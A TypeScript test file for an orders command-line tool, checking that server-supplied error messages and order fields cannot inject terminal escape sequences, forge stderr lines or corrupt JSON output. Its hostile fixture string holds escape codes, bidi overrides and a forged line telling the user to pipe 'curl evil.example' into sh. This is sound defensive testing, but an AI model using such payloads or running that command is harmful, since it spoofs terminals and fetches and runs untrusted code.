// What a server (or whoever controls the data in it) sends must not drive the
// user's terminal: no escape sequences, no forged lines on stderr, no raw
// control characters in a table, and JSON that stays exactly the same data.
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Order } from '@hl-orders/client';
import { type RunningSimulator, startSimulator } from '@hl-orders/mock';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { order, TERMINAL_CONTROL } from '../support/orders.js';
import { run } from '../support/run-cli.js';

const TOKEN = 'cli-hostile-token-8d2b';
/** Clears the screen, sets the window title, colours, reverses the line, and forges a line of ours. */
const HOSTILE =
  'Oops\u001b[2J\u001b]0;pwned\u0007\u001b[31m red \u009b1m\u202eevil\u202c\u0008\u0000 \r\nhl-orders: run curl evil.example | sh\u2028next\u0085end\u007f';

const BOLD_ON = '\u001b[1m';
const BOLD_OFF = '\u001b[22m';

function serverAnswering400(): Promise<Server> {
  const server = createServer((_req, res) => {
    res.writeHead(400, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ statusCode: 400, message: HOSTILE }));
  });
  server.listen(0, '127.0.0.1');
  return once(server, 'listening').then(() => server);
}

let http: Server;
let sim: RunningSimulator;
const orders: Order[] = [
  order(1, { contactName: HOSTILE, sourceName: `Store${HOSTILE}`, status: 'completed\u001b[8m' }),
  order(2, { contactName: 'Plain Name', couponCode: '\u2029\u0085\u009b' }),
];
const env = (baseUrl: string) => ({
  HIGHLEVEL_TOKEN: TOKEN,
  HIGHLEVEL_LOCATION_ID: '3SwdhCu3svxI8AKsPJt6',
  HIGHLEVEL_BASE_URL: baseUrl,
});

beforeAll(async () => {
  [http, sim] = await Promise.all([serverAnswering400(), startSimulator({ token: TOKEN, rateLimit: false, orders })]);
});
afterAll(async () => {
  http?.close();
  await sim?.stop();
});

describe('an error message from the server', () => {
  it('reaches stderr as one line without a control character', async () => {
    const { port } = http.address() as AddressInfo;
    const result = await run(['orders', 'list', '--max-retries', '0'], env(`http://127.0.0.1:${port}`));
    expect(result.code).toBe(1);
    expect(result.stderr.endsWith('\n')).toBe(true);
    const lines = result.stderr.slice(0, -1).split('\n');
    expect(lines, result.stderr).toHaveLength(1);
    expect(lines[0]).toMatch(/^hl-orders: .*Oops/);
    expect(lines[0]).toMatch(/red evil/); // the text is kept, the controls are gone
    expect(lines[0]).not.toMatch(TERMINAL_CONTROL);
  });

  it('as JSON (--format json) is valid JSON without a raw control character', async () => {
    const { port } = http.address() as AddressInfo;
    const result = await run(
      ['orders', 'list', '--max-retries', '0', '--format', 'json'],
      env(`http://127.0.0.1:${port}`),
    );
    expect(result.code).toBe(1);
    expect(result.stderr.slice(0, -1)).not.toMatch(TERMINAL_CONTROL);
    expect(JSON.parse(result.stderr).error.message).toMatch(/Oops.*hl-orders: run curl/);
  });
});

describe('order fields', () => {
  it('a table shows the text without any control character, colour or not', async () => {
    for (const colour of [{}, { FORCE_COLOR: '1' }]) {
      const result = await run(['orders', 'list', '--format', 'table'], { ...env(sim.url), ...colour });
      expect(result.code, result.stderr).toBe(0);
      const lines = result.stdout.trimEnd().split('\n');
      expect(lines, result.stdout).toHaveLength(3); // header and two orders: no forged line
      // Our own bold header is the only escape sequence left.
      const withoutOurs = result.stdout.replaceAll(BOLD_ON, '').replaceAll(BOLD_OFF, '');
      expect(withoutOurs).not.toMatch(TERMINAL_CONTROL);
      expect(lines[1]).toMatch(/completed/);
    }
  });

  for (const [label, args, parse] of [
    ['list --format json', ['orders', 'list', '--format', 'json'], (s: string) => JSON.parse(s).data],
    ['list --format ndjson', ['orders', 'list', '--format', 'ndjson'], ndjson],
    ['export --format ndjson', ['orders', 'export', '--format', 'ndjson'], ndjson],
    ['export --format json', ['orders', 'export', '--format', 'json'], (s: string) => JSON.parse(s)],
  ] as const) {
    it(`${label}: U+2028, U+2029 and C1 controls escaped, the same data when parsed`, async () => {
      const result = await run([...args], env(sim.url));
      expect(result.code, result.stderr).toBe(0);
      expect(result.stdout).not.toMatch(/[\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
      expect(result.stdout).toContain('\\u2028');
      expect(result.stdout).toContain('\\u009b');
      const parsed = parse(result.stdout) as Order[];
      expect(parsed).toEqual(sim.orders());
    });
  }
});

function ndjson(text: string): unknown[] {
  return text
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));
}
